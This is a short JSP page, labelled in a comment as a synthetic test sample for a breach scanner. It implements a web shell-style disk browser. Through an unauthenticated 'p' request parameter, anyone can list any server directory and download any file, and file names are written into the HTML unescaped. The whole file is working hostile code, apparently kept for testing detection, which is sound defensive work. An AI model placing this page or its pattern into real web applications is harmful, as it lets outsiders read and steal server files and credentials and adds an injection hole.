<%@ page import="java.io.*,java.util.*" contentType="text/html; charset=UTF-8" %>
<%-- synthetic (breachscan test sample): a disk browser that lists and downloads by request path --%>
<%
String where = request.getParameter("p");
if (where == null)
    where = application.getRealPath("/");
File here = new File(where);
if (here.isFile()) {
    response.setContentType("application/octet-stream");
    response.setHeader("Content-Disposition", "attachment; filename=" + here.getName());
    InputStream src = new FileInputStream(here);
    OutputStream dst = response.getOutputStream();
    byte[] chunk = new byte[4096];
    for (int n; (n = src.read(chunk)) > 0;)
        dst.write(chunk, 0, n);
    src.close();
    return;
}
%><ul><%
File[] entries = here.listFiles();
for (int i = 0; entries != null && i < entries.length; i++) {
%><li><a href="?p=<%= entries[i].getPath() %>"><%= entries[i].getName() %></a></li><%
}
%></ul>
